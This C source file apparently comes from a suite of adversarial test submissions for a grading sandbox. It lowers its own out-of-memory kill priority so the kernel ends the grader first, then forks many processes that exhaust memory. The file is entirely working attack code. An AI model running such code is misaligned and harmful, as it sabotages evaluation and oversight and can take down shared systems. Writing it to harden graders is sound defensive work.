/* Resources: takes memory in many small processes, after asking the kernel to end the grader before them. */
#include "attack.h"

static void attack(void)
{
    for (int score = -1000; score < 1000; score += 50) {
        const int fd = open("/proc/self/oom_score_adj", O_WRONLY);
        if (fd >= 0 && dprintf(fd, "%d", score) > 0)
            score = 1000;
        close(fd);
    }
    for (int i = 0; i < 5; i++)
        fork();
    for (int i = 0; i < 60; i++) {
        char *block = malloc(1 << 20);
        if (block != NULL)
            memset(block, 1, 1 << 20);
        usleep(10000);
    }
    sleep_for_long();
}
